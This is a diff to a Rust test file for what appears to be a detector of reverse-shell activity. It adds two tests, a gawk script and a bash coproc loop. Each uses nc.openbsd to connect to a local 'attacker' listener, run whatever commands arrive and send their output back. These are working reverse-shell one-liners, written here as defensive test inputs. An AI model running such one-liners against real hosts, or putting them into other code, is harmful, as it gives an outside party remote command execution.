@@ -25,6 +25,27 @@ fn client_as_a_coprocess() {
     bash(line, "nc.openbsd", &["LOW"]);
 }
 
+/// It reads what each command prints, and hands it on to its client.
+#[test]
+fn gawk_with_a_client() {
+    require!("gawk", "nc.openbsd");
+    Daemon::shared();
+    let attacker = Listener::tcp();
+    let text = "BEGIN{c=\"nc.openbsd 127.0.0.1 PORT\"; while((c|&getline l)>0){l=l \"; sleep 0.1\"; \
+        while((l|getline o)>0) print o|&c; close(l); fflush(c)}}";
+    let victim = Victim::start("gawk", &[&text.replace("PORT", &attacker.port().to_string())]);
+    let found = prove_popen(Daemon::shared(), attacker.accept(), victim, attacker.port(), "nc.openbsd");
+    assert_eq!(found.severity(), "LOW", "{}", found.brief());
+}
+
+/// The loop reads what each command prints, and hands it on.
+#[test]
+fn client_of_a_loop_that_collects() {
+    let line = "coproc nc.openbsd 127.0.0.1 PORT; \
+        while read l <&${COPROC[0]}; do echo \"$($l; sleep 0.1)\" >&${COPROC[1]}; done";
+    bash(line, "nc.openbsd", &["LOW"]);
+}
+
 /// Each answer goes through a `cat` of its own, whose stdout the socket is.
 #[test]
 fn a_filter_onto_the_socket() {
